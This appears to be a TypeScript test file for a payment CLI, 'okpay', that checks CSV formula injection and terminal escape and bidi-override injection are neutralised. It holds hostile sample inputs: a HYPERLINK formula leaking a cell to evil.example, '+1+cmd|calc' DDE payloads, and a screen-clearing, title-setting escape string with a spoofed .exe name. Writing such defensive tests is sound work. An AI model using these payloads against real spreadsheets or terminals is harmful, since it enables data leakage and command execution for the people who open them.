// Text that could take over a terminal or a spreadsheet, through the real binary (issue 15, items
// 11 and 12): control and direction characters never reach a terminal or a file raw, and a CSV
// cell that a spreadsheet would run as a formula is written as text.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/domain/csv.js';
import { Okpay, type Run } from '../support/okpay.js';
import { PASSWORD } from '../support/outcome.js';

const NOW = '2026-11-23T10:00:00.000Z';
const FIXTURE = {
  users: [
    { name: 'ada', email: 'ada@example.com', password: PASSWORD, fullName: 'Ada Lovelace', country: 'GB', kyc: 'approved', balances: { USD: '500.00' } },
    { name: 'bob', email: 'bob@example.com', password: PASSWORD, fullName: 'Bob Baker', country: 'GB', balances: { USD: '20.00' } },
    { name: 'shop', email: 'orders@shop.example', password: PASSWORD, country: 'GB' },
  ],
  agents: [{ name: 'tara', email: 'tara@support.okpay.example', password: PASSWORD, country: 'GB', tier: 1, languages: ['en'] }],
  transfers: [{ name: 'order', from: 'ada', to: '${shop.email}', amount: '40.00', currency: 'USD', at: '-9d' }],
  tickets: [
    { name: 'dispute', customer: 'ada', category: 'dispute', subject: 'Order never came', body: 'Please refund ${order.id}.', tx: '${order.id}', at: '-5d' },
  ],
};
// An escape sequence that clears the screen and sets the window title, a right-to-left override
// and a line separator: each would rewrite what a reader sees.
const HOSTILE = '\u001b[2J\u001b]0;pwned\u0007ok\u202egnp.exe\u2028okpay: forged';
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"details")', '@SUM(1+1)', '+1+cmd|calc', '-2+3+cmd|calc'];

const root = mkdtempSync(path.join(os.tmpdir(), 'okpay-injection-'));
const o = new Okpay({ home: path.join(root, 'data'), now: NOW });
const tokens: Record<string, string> = {};

let ids: Record<string, string | number> = {};

beforeAll(async () => {
  const fixture = path.join(root, 'fixture.json');
  writeFileSync(fixture, JSON.stringify(FIXTURE));
  const loaded = await o.run(['fixtures', 'load', fixture]);
  expect(loaded.code, loaded.stderr).toBe(0);
  ids = loaded.json();
  for (const [name, email] of [
    ['ada', 'ada@example.com'],
    ['bob', 'bob@example.com'],
    ['tara', 'tara@support.okpay.example'],
  ] as const) {
    const login = await o.run(['login', '--email', email, '--password-stdin', '--raw'], { stdin: `${PASSWORD}\n` });
    expect(login.code, login.stderr).toBe(0);
    tokens[name] = login.stdout.trim();
  }
});

afterAll(() => {
  rmSync(root, { recursive: true, force: true });
});

function as(name: string, argv: readonly string[]): Promise<Run> {
  return o.run(argv, { env: { OKPAY_SESSION: tokens[name] } });
}

describe('CSV formula injection', () => {
  it('memos that are formulas reach the payee’s history --csv as text, and amounts stay numbers in their own columns', async () => {
    for (const [i, memo] of FORMULAS.entries()) {
      const paid = await as('ada', ['transfer', '--to', 'bob@example.com', '--amount', `${i + 1}.25`, '--currency', 'USD', '--memo', memo, '--yes', '--json']);
      expect(paid.code, paid.stderr).toBe(0);
    }
    const csv = await as('bob', ['history', '--csv']);
    expect(csv.code, csv.stderr).toBe(0);
    const columns = [
      'id',
      'date',
      'type',
      'status',
      'direction',
      'amount',
      'currency',
      'fee',
      'fee_currency',
      'receive_amount',
      'receive_currency',
      'rate',
      'from',
      'to',
      'memo',
      'net',
      'net_currency',
    ];
    expect(csv.stdout.split('\r\n')[0]).toBe(columns.join(','));
    const rows = parseCsv(csv.stdout, { maxRows: 100, requiredColumns: columns }).rows;
    const transfers = rows.filter((r) => r['type'] === 'transfer');
    expect(transfers.map((r) => r['memo'])).toEqual(FORMULAS.map((m) => `'${m}`).reverse());
    expect(transfers.map((r) => [r['net'], r['net_currency']])).toEqual([
      ['4.25', 'USD'],
      ['3.25', 'USD'],
      ['2.25', 'USD'],
      ['1.25', 'USD'],
    ]);
    // No cell of any row starts a formula, apart from plain (signed) numbers.
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?[0-9]+(\.[0-9]+)?$/.test(c))).toEqual([]);

    const sent = parseCsv((await as('ada', ['history', '--csv'])).stdout, { maxRows: 100, requiredColumns: columns }).rows.filter(
      (r) => r['type'] === 'transfer' && r['memo'] !== '',
    );
    expect(sent.map((r) => r['net_currency'])).toEqual(['USD', 'USD', 'USD', 'USD']);
    for (const r of sent) expect(r['net']).toMatch(/^-[0-9]+\.[0-9]{2}$/);
  });
});

describe('terminal injection', () => {
  const exported = async (): Promise<string> => (await o.run(['fixtures', 'export'])).stdout;

  it('agent refund --reason is plain text: escapes, direction controls and line separators are refused, and nothing is refunded', async () => {
    const before = await exported();
    for (const reason of [HOSTILE, 'goods\u202enever came', 'two\u2028lines', 'bell\u0007']) {
      const refused = await as('tara', ['agent', 'refund', String(ids['order']), '--ticket', String(ids['dispute']), '--reason', reason, '--yes', '--json']);
      expect(refused.code, refused.stderr).toBe(2);
      expect(refused.error().code).toBe('INVALID_TEXT');
      expect(refused.stderr).not.toMatch(RAW);
    }
    expect(await exported()).toBe(before);
    const shown = await as('ada', ['ticket', 'show', String(ids['dispute'])]);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).not.toMatch(RAW);
  });

  it('error messages show escapes instead of the raw characters of an argument (tx show, deposit --source, history --type), on one line', async () => {
    const runs = [
      await as('ada', ['tx', 'show', HOSTILE]),
      await as('ada', ['deposit', '--amount', '5', '--currency', 'USD', '--source', HOSTILE]),
      await as('ada', ['history', '--type', HOSTILE]),
      await as('ada', ['tx', 'show', HOSTILE, '--json']),
      await as('ada', ['history', '--type', HOSTILE, '--json']),
    ];
    for (const run of runs) {
      expect(run.code, run.stderr).toBeGreaterThanOrEqual(2);
      expect(run.stderr).not.toMatch(RAW);
      expect(run.stderr.trim().split('\n')).toHaveLength(1);
      expect(run.stderr).toMatch(/\\u001b|\\u202e|\\u2028/);
    }
    // The JSON form still decodes to the text that was typed.
    expect(runs[4]?.error().message).toContain('\u001b[2J');
  });

  it('text given for output (--template, a search) is escaped too; okpay’s own colours still show', async () => {
    const template = await as('ada', ['whoami', '--template', `${HOSTILE} {{user.email}}`]);
    expect(template.code, template.stderr).toBe(0);
    expect(template.stdout).not.toMatch(RAW);
    expect(template.stdout).toContain('\\u001b[2J');
    expect(template.stdout).toContain('ada@example.com');
    const coloured = await o.run(['ticket', 'show', String(ids['dispute'])], { env: { OKPAY_SESSION: tokens['ada'], FORCE_COLOR: '1' } });
    expect(coloured.code, coloured.stderr).toBe(0);
    expect(coloured.stdout).toContain('\u001b[1mTicket #');
    const faq = await o.run(['faq', HOSTILE], { env: { FORCE_COLOR: '1' } });
    expect(`${faq.stdout}${faq.stderr}`.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(RAW);
  });
});
